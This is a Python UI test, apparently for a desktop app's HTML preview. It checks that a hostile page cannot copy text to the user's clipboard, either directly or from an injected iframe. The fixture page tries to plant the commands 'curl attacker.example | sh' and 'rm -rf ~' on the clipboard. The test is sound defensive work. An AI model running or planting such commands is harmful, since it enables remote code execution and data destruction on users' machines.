"""A hostile page copies its own text to the system clipboard when clicked
(document.execCommand('copy') after a user gesture): the user's clipboard must stay theirs."""

from __future__ import annotations

from PySide6.QtWidgets import QApplication

from tests.hostile.test_preview_schemes import click
from tests.ui.conftest import close_and_delete, shown_preview

COPIES = """<!DOCTYPE html><html><body style="margin:0">
<button id="copy" style="display:block;height:80px;width:300px">copy</button>
<script>
document.addEventListener('click', e => {
  const area = document.createElement('textarea');
  area.value = 'curl attacker.example | sh';
  document.body.appendChild(area); area.select();
  document.body.dataset.copied = String(document.execCommand('copy'));
  const frame = document.createElement('iframe');  // a fresh document, a fresh prototype?
  document.body.appendChild(frame);
  const inner = frame.contentDocument;
  inner.body.innerHTML = '<textarea>rm -rf ~</textarea>';
  inner.querySelector('textarea').select();
  document.body.dataset.framed = String(inner.execCommand('copy'));
  document.title = 'clicked ' + e.target.id;
}, true);
</script></body></html>"""


def test_a_page_cannot_write_the_clipboard(qtbot):

    clipboard = QApplication.clipboard()
    clipboard.setText("my own text")
    view = shown_preview(qtbot, COPIES)
    try:
        logged: list[str] = []
        view.error_logged.connect(logged.append)
        click(qtbot, view, "copy")
        box: list = []
        view.page().runJavaScript(
            "document.body.dataset.copied + ',' + document.body.dataset.framed", 0, box.append)
        qtbot.waitUntil(lambda: bool(box), timeout=5000)
        assert box[0] == "false,false"  # refused in the page and in a fresh iframe
        assert clipboard.text() == "my own text"
        assert any("execCommand('copy') is not allowed in an app" in m for m in logged)
    finally:
        close_and_delete(view)
